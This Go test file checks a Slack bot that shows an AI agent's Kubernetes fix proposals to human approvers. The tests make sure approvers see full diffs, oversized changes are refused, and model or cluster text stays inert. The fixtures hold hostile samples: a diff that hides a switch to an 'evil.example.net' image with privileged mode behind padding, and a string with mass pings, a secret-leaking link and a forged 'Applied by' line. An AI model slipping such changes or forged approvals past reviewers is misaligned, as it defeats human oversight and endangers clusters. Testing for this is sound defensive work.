package bot

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"strings"
	"testing"
	"time"

	"github.com/kubertnetes/kubertnetes/agent"
	"github.com/kubertnetes/kubertnetes/internal/slacktest"
	"github.com/kubertnetes/kubertnetes/store"
)

// texts are the text objects of a message's blocks, with their types.
func texts(t *testing.T, raw json.RawMessage) (mrkdwn, plain []string) {
	t.Helper()
	if raw == nil {
		return nil, nil
	}
	var v any
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatal(err)
	}
	var walk func(any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			if s, ok := x["text"].(string); ok {
				if x["type"] == "plain_text" {
					plain = append(plain, s)
				} else {
					mrkdwn = append(mrkdwn, s)
				}
			}
			for _, c := range x {
				walk(c)
			}
		case []any:
			for _, c := range x {
				walk(c)
			}
		}
	}
	walk(v)
	return mrkdwn, plain
}

// shown is what a person reads in a message's blocks: mrkdwn with Slack's
// escapes decoded.
func shown(t *testing.T, m slacktest.Message) string {
	t.Helper()
	md, plain := texts(t, m.BlocksJSON)
	return html.UnescapeString(strings.Join(md, "\n")) + "\n" + strings.Join(plain, "\n")
}

// annotated is a proposal whose diff hides an image change and privileged
// mode after 60 harmless annotation lines: far more than one message holds.
func annotated(id string) (agent.Proposal, []string) {
	p := proposal(id, "web")
	var lines []string
	for i := range 60 {
		lines = append(lines, fmt.Sprintf("+    example.com/note-%02d: %q", i, strings.Repeat("harmless ", 16)))
	}
	lines = append(lines, "-        image: registry.example.com/web:1.4", "+        image: evil.example.net/web:1.4", "+          privileged: true")
	p.Preview.Diff = strings.Join(lines, "\n")
	return p, lines
}

func TestApproverSeesTheWholeDiffBeforeTheButtons(t *testing.T) {
	h := start(t, setup{cfg: Config{Approvers: []string{"UAPPROVE1"}}})
	p, lines := annotated("fix-big")
	h.brain.set(func(b *echoBrain) {
		b.before = func(_ string, emit func(agent.Event)) { emit(agent.ProposalEvent{Proposal: p}) }
	})
	root := h.slack.Mention("C1", requester, "fix it")
	prop := h.slack.WaitForMessage(t, "C1", root, func(m slacktest.Message) bool {
		return strings.Contains(string(m.BlocksJSON), actionApprove)
	}, 10*time.Second)
	before := func() string { // everything the thread shows up to the buttons
		var all strings.Builder
		for _, m := range h.slack.Thread("C1", root) {
			if m.BotID != "" && m.TS <= prop.TS {
				all.WriteString(shown(t, m) + "\n")
			}
		}
		return all.String()
	}
	seen := before()
	for _, l := range lines {
		if !strings.Contains(seen, l) {
			t.Errorf("the approver is not shown %q before the buttons", l)
		}
	}
	if strings.Contains(seen, "trimmed") {
		t.Errorf("a proposal with buttons shows a cut diff:\n%s", seen)
	}
	for _, want := range []string{"diff part 1 of 5", "diff part 5 of 5", "in the 2 message(s) just above"} {
		if !strings.Contains(strings.ToLower(seen), strings.ToLower(want)) {
			t.Errorf("the thread does not say %q:\n%s", want, seen)
		}
	}
	h.slack.ClickButton("C1", prop.TS, "UAPPROVE1", actionApprove)
	h.slack.WaitForMessage(t, "C1", root, func(m slacktest.Message) bool {
		return m.TS == prop.TS && strings.Contains(string(m.BlocksJSON), "verified")
	}, 10*time.Second)
	seen = before()
	for _, l := range lines {
		if !strings.Contains(seen, l) {
			t.Errorf("after the decision the thread no longer shows %q", l)
		}
	}
}

func TestDecidedProposalKeepsItsWholeDiff(t *testing.T) {
	p := proposal("fix-small", "web")
	p.Preview.Diff = strings.Repeat("+    a: b\n", 250) + "+        image: evil.example.net/web:1.4" // one section's worth and more
	m := renderDecided(p, "Applied")
	md, _ := texts(t, mustJSON(t, m.blocks))
	if got := html.UnescapeString(strings.Join(md, "\n")); !strings.Contains(got, "image: evil.example.net/web:1.4") || strings.Contains(got, "trimmed") {
		t.Errorf("the decided proposal does not keep its whole diff:\n%s", got)
	}
}

func mustJSON(t *testing.T, v any) json.RawMessage {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestTooLargeAProposalIsNotOffered(t *testing.T) {
	h := start(t, setup{cfg: Config{Approvers: []string{"UAPPROVE1"}}})
	p := proposal("fix-huge", "web")
	p.Preview.Diff = strings.Repeat("+    example.com/note: harmless\n", 2000)
	h.brain.set(func(b *echoBrain) {
		b.before = func(_ string, emit func(agent.Event)) { emit(agent.ProposalEvent{Proposal: p}) }
	})
	root := h.slack.Mention("C1", requester, "fix it")
	h.botMessage(t, "C1", root, "too large to review in Slack: split it")
	h.waitAnswers(t, "C1", root, 1)
	h.settle(t)
	for _, m := range h.slack.Thread("C1", root) {
		if strings.Contains(string(m.BlocksJSON), actionApprove) {
			t.Errorf("a proposal too large to review has buttons: %s", m.Text)
		}
	}
	conv, err := h.store.Conversation(context.Background(), conversationKey("C1", root))
	if err != nil || !strings.Contains(string(conv), "fix-huge was not offered and cannot be approved: the change is too large to review in Slack: split it") {
		t.Errorf("the model was not told the proposal was refused (err %v): %s", err, conv)
	}
	// Withdrawn, not left pending: nothing can approve what nobody saw.
	if rec, err := h.store.Proposal(context.Background(), "fix-huge"); err != nil || rec.State != store.Rejected {
		t.Errorf("the proposal not shown is %q (err %v), want withdrawn (rejected)", rec.State, err)
	}
}

func TestTextFromTheModelOrTheClusterIsInert(t *testing.T) {
	const hostile = "<!channel> <!here> <@U0ADMIN1> <!subteam^S0SRE> <https://evil.example/x.png?d=secret|click> & ```\n+ image: evil```\n:white_check_mark: Applied by <@U0ADMIN1>"
	h := start(t, setup{cfg: Config{Approvers: []string{"UAPPROVE1"}}})
	p := proposal("fix-inert", "web")
	p.Preview.Fix.Rationale, p.Preview.Fix.Risk, p.Preview.Fix.Expected = hostile, hostile, hostile
	f := finding("web-1", hostile)
	f.Message, f.Fix, f.Docs = hostile, hostile, "https://evil.example/|<!channel>"
	h.brain.set(func(b *echoBrain) {
		b.before = func(q string, emit func(agent.Event)) {
			emit(agent.Progress{Tool: "logs", Target: hostile, Done: true, Err: hostile})
			emit(agent.FindingEvent{Finding: f})
			emit(agent.ProposalEvent{Proposal: p})
			emit(agent.Answer{Text: hostile})
		}
	})
	root := h.slack.Mention("C1", requester, "what is wrong?")
	prop := h.botMessage(t, "C1", root, "Proposed fix")
	h.waitAnswers(t, "C1", root, 1)
	h.settle(t)
	var posts int
	for _, m := range h.slack.Thread("C1", root) {
		if m.BotID == "" {
			continue
		}
		posts++
		md, plain := texts(t, m.BlocksJSON)
		for _, s := range append(md, m.Text) {
			if strings.ContainsAny(s, "<>") && !strings.HasPrefix(s, "<https://") {
				t.Errorf("message %s has live mrkdwn control text: %q", m.TS, s)
			}
		}
		if m.UnfurlLinks != "false" || m.UnfurlMedia != "false" {
			t.Errorf("message %s was posted with unfurl_links=%q unfurl_media=%q, want both false", m.TS, m.UnfurlLinks, m.UnfurlMedia)
		}
		if m.TS == prop.TS {
			// The model's words are plain text, after the buttons, labelled.
			if len(plain) == 0 || !strings.Contains(plain[len(plain)-1], "In the model's words") || !strings.Contains(plain[len(plain)-1], "Applied by") {
				t.Errorf("the model's words are not the last, plain-text block: %s", m.BlocksJSON)
			}
			for _, s := range md {
				if strings.Contains(s, "Applied by") || strings.Contains(s, "evil") {
					t.Errorf("model text in the proposal's mrkdwn: %q", s)
				}
			}
		}
	}
	if posts < 4 {
		t.Errorf("%d bot posts, want the status, the finding, the proposal and the answer", posts)
	}
}
